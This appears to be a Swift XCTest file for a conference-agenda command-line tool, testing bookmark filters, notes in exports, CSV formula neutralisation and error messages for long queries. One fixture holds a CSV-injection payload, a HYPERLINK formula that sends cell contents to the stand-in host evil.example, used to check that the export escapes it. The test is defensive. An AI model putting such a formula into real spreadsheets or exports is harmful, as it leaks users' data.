import Foundation
import XCTest

/// Issue 11, defects 8, 9, 13, 19 and 23 through the real binary: `is:bookmarked` in
/// `lineup list`, notes in every export and in `lineup bookmark note`, formulas in CSV, and
/// the quote of a long malformed query.
final class BookmarkNoteAndQueryTests: XCTestCase {
    static let straight = "tc9d7095c27cc3f17"  // "Straight to the Gradient", ICML 2021
    static let monarch = "t2ed1263104477a47"

    func testListMatchesIsBookmarkedAgainstTheBookmarksOptionOrVariable() throws {
        let file = try scratchDirectory() + "/bookmarks.json"
        XCTAssertEqual(try lineup(["bookmark", "add", Self.straight, Self.monarch, "--bookmarks", file]).status, 0)
        let listed = try lineup(["list", "--json", "is:bookmarked", "--bookmarks", file])
        XCTAssertEqual(listed.status, 0, listed.stderr)
        let items = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(listed.stdout.utf8)) as? [[String: Any]])
        XCTAssertEqual(items.compactMap { $0["id"] as? String }, [Self.straight, Self.monarch])
        let counted = try lineup(["list", "--count", "kind:oral", "-is:bookmarked"], environment: ["LINEUP_BOOKMARKS": file])
        XCTAssertEqual(counted.stdout, "1\n", "three orals, two of them bookmarked")
    }

    func testBookmarkNoteSetsAndClearsNotesAndEveryExportCarriesThem() throws {
        let file = try scratchDirectory() + "/bookmarks.json"
        let set = try lineup(["bookmark", "note", "TC9D70", "front", "row", "--bookmarks", file])
        XCTAssertEqual(set.status, 0, set.stderr)
        XCTAssertEqual(set.stdout, "note set on \(Self.straight)  Straight to the Gradient: Learning to Use Novel Tokens for Neural Text Generation\n",
                       "an id in upper case; a note on an item not bookmarked yet bookmarks it")
        let json = try lineup(["export", "--format", "json", "--bookmarks", file])
        let document = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
        let items = try XCTUnwrap(document["items"] as? [[String: Any]])
        XCTAssertEqual(items.first?["note"] as? String, "front row")
        for format in ["md", "csv", "ics"] {
            XCTAssertTrue(try lineup(["export", "--format", format, "--bookmarks", file]).stdout.contains("front row"), format)
        }

        let cleared = try lineup(["bookmark", "note", Self.straight, "--bookmarks", file])
        XCTAssertEqual(cleared.status, 0, cleared.stderr)
        XCTAssertTrue(cleared.stdout.hasPrefix("note cleared on \(Self.straight)"))
        let emptied = try lineup(["bookmark", "add", Self.monarch, "--note", "", "--bookmarks", file])
        XCTAssertEqual(emptied.status, 0, emptied.stderr)
        let saved = try String(contentsOfFile: file, encoding: .utf8)
        XCTAssertEqual(saved.components(separatedBy: "\"note\" : null").count - 1, 2, saved)
        XCTAssertFalse(try lineup(["export", "--format", "md", "--bookmarks", file]).stdout.contains("Note:"))
        XCTAssertFalse(try lineup(["bookmark", "list", "--bookmarks", file]).stdout.contains("Notes:"))

        let unknown = try lineup(["bookmark", "note", "tffff", "x", "--bookmarks", file])
        XCTAssertEqual(unknown.status, 1)
        XCTAssertTrue(unknown.stderr.contains("no item has the id \"tffff\""), unknown.stderr)
        let nothingToClear = try lineup(["bookmark", "note", "t6dd1f82a3e7213a3", "--bookmarks", file])
        XCTAssertEqual(nothingToClear.status, 1)
        XCTAssertTrue(nothingToClear.stderr.contains("is not bookmarked, so it has no note to clear"), nothingToClear.stderr)
    }

    func testAFormulaInAPageTitleArrivesInTheCSVExportAsText() throws {
        let directory = try scratchDirectory()
        let page = """
        Session

        Spreadsheets

        Moderator: Mal

        Abstract:

        Chat is not available.

        Tue 19 July 10:00 - 10:20 PDT

        Oral
        =HYPERLINK("http://evil.example/?leak="&A1,"Click me")

        Eve · -Mallory

        Abstract.

        """
        let pagePath = directory + "/page.txt"
        try page.write(toFile: pagePath, atomically: true, encoding: .utf8)
        let bookmarks = directory + "/bookmarks.json"
        let run = { (arguments: [String]) in
            try LineupBinary.run(arguments + ["--data", pagePath, "--bookmarks", bookmarks, "--reference-year", "2026"])
        }
        let id = try XCTUnwrap(try run(["list", "--json"]).stdout.split(separator: "\"").drop { $0 != "id" }.dropFirst(2).first)
        XCTAssertEqual(try run(["bookmark", "add", String(id)]).status, 0)
        let csv = directory + "/agenda.csv"
        let exported = try run(["export", "--output", csv])
        XCTAssertEqual(exported.status, 0, exported.stderr)
        let script = "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))))"
        let parsed = try runProgram("/usr/bin/python3", ["-c", script, csv])
        let rows = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(parsed.stdout.utf8)) as? [[String]])
        XCTAssertEqual(rows[1][2], "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")")
        XCTAssertEqual(rows[1][12], "Eve; -Mallory", "a cell is neutralised only by what it begins with")
    }

    func testAMalformedLongQueryIsQuotedInAtMost80Characters() throws {
        let query = String(repeating: "word ", count: 20_000) + "foo:bar"
        let result = try lineup(["list", query])
        XCTAssertEqual(result.status, 64)
        let lines = result.stderr.split(separator: "\n")
        XCTAssertEqual(lines.count, 3, result.stderr.prefix(300) + "")
        XCTAssertTrue(lines[0].hasPrefix("Error: column 1001: the query is longer than 1000 characters"))
        XCTAssertLessThanOrEqual(lines[1].count, 2 + 82)
        XCTAssertLessThanOrEqual(lines[2].count, 2 + 82)
        XCTAssertLessThan(result.stderr.utf8.count, 400)
    }
}
